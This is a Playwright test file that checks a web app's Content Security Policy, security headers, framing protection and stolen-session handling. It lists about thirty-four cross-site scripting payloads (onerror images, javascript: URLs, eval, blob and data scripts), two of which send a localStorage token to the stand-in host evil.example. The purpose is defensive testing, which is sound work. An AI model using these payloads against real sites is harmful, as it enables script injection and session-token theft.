import type { Page } from '@playwright/test'
import { settle } from './support/layout-checks.ts'
import { expect, test, proveOnly } from './support/test.ts'

declare global {
  interface Window {
    stolen?: string[]
  }
}

/** Each tries to run `window.stolen.push(...)`: the policy has to stop all of them. */
const payloads: Readonly<Record<string, string>> = {
  'inline script element': `const s = document.createElement('script'); s.append('window.stolen.push(1)'); document.body.append(s)`,
  'inline script text': `const s = document.createElement('script'); s.textContent = 'window.stolen.push(1)'; document.body.append(s)`,
  'script.text': `const s = document.createElement('script'); s.text = 'window.stolen.push(1)'; document.body.append(s)`,
  'script with a guessed nonce': `const s = document.createElement('script'); s.nonce = 'abc'; s.append('window.stolen.push(1)'); document.head.append(s)`,
  'script from elsewhere': `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
  'script from a data address': `const s = document.createElement('script'); s.src = 'data:text/javascript,window.stolen.push(1)'; document.body.append(s)`,
  'script from a blob': `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.stolen.push(1)'])); document.body.append(s)`,
  'module from a blob': `const s = document.createElement('script'); s.type = 'module'; s.setAttribute('src', URL.createObjectURL(new Blob(['window.stolen.push(1)']))); document.body.append(s)`,
  'dynamic import of a data address': `await import('data:text/javascript,window.stolen.push(1)')`,
  'dynamic import of a blob': `await import(URL.createObjectURL(new Blob(['window.stolen.push(1)'], { type: 'text/javascript' })))`,
  'innerHTML with an image': `document.body.innerHTML += '<img src=x onerror="window.stolen.push(1)">'`,
  'innerHTML with an svg': `document.body.innerHTML += '<svg onload="window.stolen.push(1)"></svg>'`,
  outerHTML: `document.querySelector('#root').outerHTML = '<img src=x onerror="window.stolen.push(1)">'`,
  insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.stolen.push(1)">')`,
  'document.write': `document.write('<script>window.stolen.push(1)</' + 'script>')`,
  DOMParser: `document.body.append(...new DOMParser().parseFromString('<img src=x onerror="window.stolen.push(1)">', 'text/html').body.children)`,
  'range fragment': `document.body.append(document.createRange().createContextualFragment('<img src=x onerror="window.stolen.push(1)">'))`,
  'event handler attribute': `const i = document.createElement('img'); i.setAttribute('onerror', 'window.stolen.push(1)'); i.src = '/nothing.png'; document.body.append(i)`,
  'click handler attribute': `const b = document.createElement('button'); b.setAttribute('onclick', 'window.stolen.push(1)'); document.body.append(b); b.click()`,
  'javascript: link': `const a = document.createElement('a'); a.href = 'javascript:window.stolen.push(1)'; document.body.append(a); a.click()`,
  'javascript: location': `location.href = 'javascript:window.stolen.push(1)'`,
  'frame with srcdoc': `const f = document.createElement('iframe'); f.setAttribute('srcdoc', '<script>parent.stolen.push(1)</' + 'script>'); document.body.append(f)`,
  'frame with a javascript: address': `const f = document.createElement('iframe'); f.src = 'javascript:parent.stolen.push(1)'; document.body.append(f)`,
  eval: `(0, eval)('window.stolen.push(1)')`,
  'new Function': `new Function('window.stolen.push(1)')()`,
  'function constructor': `(async () => {}).constructor('window.stolen.push(1)')()`,
  'setTimeout with a text': `setTimeout('window.stolen.push(1)', 0)`,
  'setInterval with a text': `setInterval('window.stolen.push(1)', 5)`,
  'worker from a blob': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => window.stolen.push(1)`,
  'a Trusted Types policy of one’s own': `const p = trustedTypes.createPolicy('evil', { createHTML: (t) => t }); document.body.innerHTML = p.createHTML('<img src=x onerror="window.stolen.push(1)">')`,
  'object element': `const o = document.createElement('object'); o.setAttribute('data', 'data:text/html,<script>parent.stolen.push(1)</' + 'script>'); document.body.append(o)`,
  'base address': `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); if (document.baseURI.startsWith('https://evil')) window.stolen.push(1)`,
  'sending the token away': `await fetch('https://evil.example/?t=' + localStorage.getItem('tokend')).then(() => window.stolen.push(1))`,
  'sending the token in an image': `const i = new Image(); i.onload = () => window.stolen.push(1); i.src = 'https://evil.example/?t=' + localStorage.getItem('tokend')`,
}

/**
 * Runs each payload inside a script of our own origin, as an attacker could after finding a hole in our code. Returns
 * the payloads that got through and the requests that left for another origin.
 */
const attack = async (page: Page) => {
  const left: string[] = []
  await page.context().route(/^https?:\/\/evil\.example/, (route) => {
    left.push(route.request().url())
    return route.fulfill({ body: 'window.stolen.push(1)', contentType: 'text/javascript' })
  })
  await page.route('**/attack.js*', (route) => {
    const payload = payloads[new URL(route.request().url()).searchParams.get('name') ?? ''] ?? ''
    return route.fulfill({
      contentType: 'text/javascript',
      body: `window.stolen = []; (async () => { try { ${payload} } catch {} finally { window.tried = true } })()`,
    })
  })
  const ran: string[] = []
  for (const name of Object.keys(payloads)) {
    const query = encodeURIComponent(name)
    await page.goto(`/?attack=${query}#/user/language`)
    await page.evaluate((src) => import(src) as Promise<void>, `/attack.js?name=${query}`)
    // A payload that works at all has run once a frame, an image and a worker could load.
    await page
      .waitForFunction(() => 'tried' in window && (window.stolen?.length ?? 0) > 0, undefined, {
        timeout: 250,
      })
      .then(
        () => ran.push(name),
        () => {},
      )
  }
  return { ran, left }
}

test.describe('CSP stops injected script', () => {
  test('no injected script runs and no request leaves the origin', async ({ page, open, complaints }) => {
    complaints.expect(/./)
    expect(Object.keys(payloads).length).toBeGreaterThanOrEqual(20)
    await open('/user/language')
    expect(await attack(page)).toEqual({ ran: [], left: [] })
  })

  test('the same payloads run without the policy', { tag: proveOnly }, async ({ browser, complaints }) => {
    complaints.expect(/./)
    const context = await browser.newContext({ bypassCSP: true })
    const { ran, left } = await attack(await context.newPage())
    await context.close()
    expect(ran.length, ran.join(', ')).toBeGreaterThanOrEqual(20)
    expect(left.length).toBeGreaterThan(0)
  })

  test('the document carries the policy and the other security headers', async ({ page }) => {
    const response = await page.goto('/')
    const headers = response?.headers() ?? {}
    const policy = headers['content-security-policy'] ?? ''
    for (const part of [
      `default-src 'none'`,
      `script-src 'self' 'sha256-`,
      `object-src 'none'`,
      `base-uri 'none'`,
      `frame-ancestors 'none'`,
      `require-trusted-types-for 'script'`,
    ])
      expect(policy).toContain(part)
    expect(policy).not.toMatch(/unsafe-(inline|eval)/)
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'x-frame-options': 'DENY',
      'cross-origin-opener-policy': 'same-origin',
    })
  })

  test('the app cannot be framed', { tag: proveOnly }, async ({ page, baseURL, complaints }) => {
    complaints.expect(/./)
    await page.route('https://evil.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
    )
    await page.goto('https://evil.example/')
    await expect.poll(() => page.frames().length).toBe(2)
    const framed = page.frames()[1]
    await expect.poll(() => framed?.url()).toMatch(/^chrome-error:/)
  })
})

test.describe('a stolen session', () => {
  test('copied localStorage fails in another browser; the owner stays signed in', async ({
    page,
    texts,
    open,
    newPhone,
  }) => {
    await open()
    await settle(page)
    const loot = await page.evaluate(() => ({ ...localStorage }))
    const thief = await newPhone()
    await thief.goto('/icon.svg')
    await thief.evaluate(
      (items) => {
        for (const [key, value] of Object.entries(items)) localStorage.setItem(key, value)
      },
      loot as Record<string, string>,
    )
    await thief.goto('/#/user/usercenter')
    await expect(thief.getByRole('alertdialog', { name: texts.shell.expired.title })).toBeVisible()
    await expect(thief).toHaveURL(/#\/login\/reLogin$/)
    await expect(thief.getByText('10,000,000.00')).toHaveCount(0)

    await page.reload()
    await expect(page.getByText(texts.members.total).first()).toBeVisible()
    await page.goto('/#/user/setting?view=sign-ins')
    await expect(page.getByText(texts.security.signIns.outcomes['stolen-token'])).toBeVisible()
  })

  test('scripts cannot read the bind cookie', { tag: proveOnly }, async ({ page, open, context }) => {
    await open()
    await settle(page)
    expect(await page.evaluate(() => document.cookie)).not.toContain('bind')
    const bind = (await context.cookies()).find(({ name }) => name === '__Host-bind')
    expect(bind).toMatchObject({ httpOnly: true, secure: true, sameSite: 'Strict', path: '/' })
  })
})

test(
  'the watch reports policy violations, and ordinary use has none',
  { tag: proveOnly },
  async ({ page, open, complaints }) => {
    // The watch in support/test.ts checks this in every other test; this one tests the watch itself.
    await open('/user/setting')
    await settle(page)
    expect(complaints.seen).toEqual([])
    complaints.expect(/TrustedHTML|Content Security Policy/)
    await page.evaluate(() => {
      try {
        document.body.innerHTML = '<b>x</b>'
      } catch {
        // Trusted Types throw here.
      }
      const style = document.createElement('style')
      style.textContent = 'b { color: red }'
      document.head.append(style)
    })
    await expect.poll(() => complaints.seen.length).toBeGreaterThan(0)
  },
)
